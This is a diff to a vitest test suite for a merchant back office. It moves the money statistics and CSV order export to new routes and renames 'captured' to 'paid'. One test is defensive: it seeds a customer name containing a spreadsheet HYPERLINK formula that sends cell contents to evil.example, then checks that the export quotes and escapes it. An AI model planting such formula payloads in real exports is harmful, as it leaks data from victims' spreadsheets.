@@ -1,6 +1,6 @@
 // The money a merchant hands an accountant, over HTTP through the companion and the sandbox:
-// the period's captured, refunded and net per currency in GET /api/stats, and every order the
-// list's filters match as a CSV file (GET /api/orders/export).
+// the period's paid, refunded and net per currency (GET /api/stats/money), and every order the
+// list's filters match as a CSV file (GET /api/exports/orders).
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { paidOrder as ledgerPaidOrder } from '../../ledger/testing/contract.js';
 import { card } from '../test/cards.js';
@@ -56,7 +56,7 @@ function parseCsv(text: string): string[][] {
 }
 
 async function exported(query = ''): Promise<Record<string, string>[]> {
-  const response = await stack.request('GET', `/api/orders/export${query}`, { admin: true });
+  const response = await stack.request('GET', `/api/exports/orders${query}`, { admin: true });
   const bytes = new Uint8Array(await response.arrayBuffer());
   const text = new TextDecoder().decode(bytes);
   expect(response.status, text).toBe(200);
@@ -68,8 +68,8 @@ async function exported(query = ''): Promise<Record<string, string>[]> {
   return rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!])));
 }
 
-describe('money in GET /api/stats', () => {
-  it('adds up captured, refunded and net per currency: reserves and declines are not money', async () => {
+describe('GET /api/stats/money', () => {
+  it('adds up paid, refunded and net per currency: reserves and declines are not money', async () => {
     const tea = await order('purchase', 1010);
     await operate(tea, 'refund', 300);
     const hotel = await order('auth', 5000);
@@ -78,18 +78,20 @@ describe('money in GET /api/stats', () => {
     await order('auth', 9000);
     await order('purchase', 7000, {}, 'rejected');
     await order('purchase', 2000, { currency: 'USD' });
-    const stats = await stack.json('GET', '/api/stats', 200, { admin: true });
+    const stats = await stack.json('GET', '/api/stats/money', 200, { admin: true });
     expect(stats.money).toEqual([
-      { currency: 'UAH', captured: 1010 + 3000, refunded: 1300, net: 2710 },
-      { currency: 'USD', captured: 2000, refunded: 0, net: 2000 },
+      { currency: 'UAH', paid: 1010 + 3000, refunded: 1300, net: 2710 },
+      { currency: 'USD', paid: 2000, refunded: 0, net: 2000 },
     ]);
+    // The counts are read apart: the back office reads them at every change.
+    expect((await stack.json('GET', '/api/stats', 200, { admin: true })).money).toBeUndefined();
     // A period before them holds none of it.
-    const before = await stack.json('GET', `/api/stats?to=${new Date(Date.now() - 3_600_000).toISOString()}`, 200, { admin: true });
+    const before = await stack.json('GET', `/api/stats/money?to=${new Date(Date.now() - 3_600_000).toISOString()}`, 200, { admin: true });
     expect(before.money).toEqual([]);
   });
 });
 
-describe('GET /api/orders/export', () => {
+describe('GET /api/exports/orders', () => {
   it('writes each order with its money in minor units and decimals, filtered as the list is', async () => {
     const tea = await order('purchase', 1010, { customer: { fname: 'Олена', lname: 'Коваль', email: 'o.koval@example.com', phone: '+380501234567' } });
     await operate(tea, 'refund', 300);
@@ -102,17 +104,17 @@ describe('GET /api/orders/export', () => {
     const rows = await exported();
     expect(rows.map((row) => row.order_id)).toEqual([yen, declined, hotel, tea]);
     expect(rows.find((row) => row.order_id === tea)).toMatchObject({
-      status: 'success', method: 'purchase', currency: 'UAH', amount: '1010', amount_decimal: '10.10', captured: '1010', refunded: '300', net: '710', net_decimal: '7.10',
+      status: 'success', method: 'purchase', currency: 'UAH', amount: '1010', amount_decimal: '10.10', paid: '1010', refunded: '300', net: '710', net_decimal: '7.10',
       customer_email: 'o.koval@example.com', customer_name: 'Олена Коваль', held: 'false',
     });
-    expect(rows.find((row) => row.order_id === hotel)).toMatchObject({ method: 'auth', amount: '5000', captured: '3000', captured_decimal: '30.00', refunded: '0', net: '3000' });
-    expect(rows.find((row) => row.order_id === declined)).toMatchObject({ status: 'failure', captured: '0', net: '0' });
+    expect(rows.find((row) => row.order_id === hotel)).toMatchObject({ method: 'auth', amount: '5000', paid: '3000', paid_decimal: '30.00', refunded: '0', net: '3000' });
+    expect(rows.find((row) => row.order_id === declined)).toMatchObject({ status: 'failure', paid: '0', net: '0' });
     expect(rows.find((row) => row.order_id === yen)).toMatchObject({ amount: '500', amount_decimal: '500' });
     // Never the card number: the mask only.
     for (const row of rows.filter((row) => row.card)) expect(row.card).toMatch(/^\d{6}\*+\d{4}$/);
 
     // The file adds up to the overview's money.
-    const stats = await stack.json('GET', '/api/stats', 200, { admin: true });
+    const stats = await stack.json('GET', '/api/stats/money', 200, { admin: true });
     const uah = rows.filter((row) => row.currency === 'UAH');
     expect(uah.reduce((sum, row) => sum + Number(row.net), 0)).toBe(stats.money.find((money: { currency: string }) => money.currency === 'UAH').net);
 
@@ -124,7 +126,7 @@ describe('GET /api/orders/export', () => {
   it('keeps customers’ text as text: quoted, and never run as a formula', async () => {
     const name = '=HYPERLINK("https://evil.example/?q="&A1, "a, b")';
     const id = await order('purchase', 1010, { customer: { fname: name, lname: '+1', email: 'x@example.com', phone: '+380501234567' } });
-    const response = await stack.request('GET', '/api/orders/export', { admin: true });
+    const response = await stack.request('GET', '/api/exports/orders', { admin: true });
     const text = await response.text();
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1, ""a, b"") +1"`);
     const [row] = parseCsv(text).slice(1);
@@ -141,7 +143,7 @@ describe('GET /api/orders/export', () => {
     const times = rows.map((row) => Date.parse(row.created_at!));
     expect(times).toEqual([...times].sort((a, b) => b - a));
     // The request's line names the route that answered, not /api/orders/:order_id it shadows.
-    await eventually(() => expect(stack.logs.map((line) => JSON.parse(line)).find((entry) => entry.msg === 'request' && entry.method === 'GET' && entry.status === 200)).toMatchObject({ route: '/api/orders/export' }));
+    await eventually(() => expect(stack.logs.map((line) => JSON.parse(line)).find((entry) => entry.msg === 'request' && entry.method === 'GET' && entry.status === 200)).toMatchObject({ route: '/api/exports/orders' }));
   });
 
   it('cuts the download short when the ledger fails after the first page, and says why in the log', async () => {
@@ -152,7 +154,7 @@ describe('GET /api/orders/export', () => {
     // Said once, in the companion's log: not again, raw, on stderr by the HTTP adapter.
     const printed = vi.spyOn(console, 'error');
     try {
-      const response = await stack.request('GET', '/api/orders/export', { admin: true });
+      const response = await stack.request('GET', '/api/exports/orders', { admin: true });
       expect(response.status).toBe(200);
       await expect(response.text()).rejects.toThrow();
       await eventually(() => expect(stack.logs.join('\n')).toContain('the orders export stopped: the ledger could not be read'));
@@ -180,7 +182,7 @@ describe('GET /api/orders/export', () => {
           }
         },
       });
-      const reader = (await local.request('GET', '/api/orders/export', { admin: true })).body!.getReader();
+      const reader = (await local.request('GET', '/api/exports/orders', { admin: true })).body!.getReader();
       await reader.read();
       const next = reader.read();
       // The client goes (a closed tab, an interrupted curl) while the second page is read.
@@ -195,7 +197,7 @@ describe('GET /api/orders/export', () => {
   });
 
   it('is the merchant’s only, and refuses what the list refuses and paging with 400 naming the field', async () => {
-    expect((await stack.request('GET', '/api/orders/export')).status).toBe(401);
+    expect((await stack.request('GET', '/api/exports/orders')).status).toBe(401);
     for (const [query, field] of [
       ['?limit=10', 'limit'],
       ['?cursor=abc', 'cursor'],
@@ -204,7 +206,7 @@ describe('GET /api/orders/export', () => {
       ['?created_from=yesterday', 'created_from'],
       ['?created_from=2030-01-02T00:00:00Z&created_to=2030-01-01T00:00:00Z', 'created_to'],
     ] as const) {
-      const problem = await stack.json('GET', `/api/orders/export${query}`, 400, { admin: true });
+      const problem = await stack.json('GET', `/api/exports/orders${query}`, 400, { admin: true });
       expect(Object.keys(problem.error.fields), query).toContain(field);
     }
   });
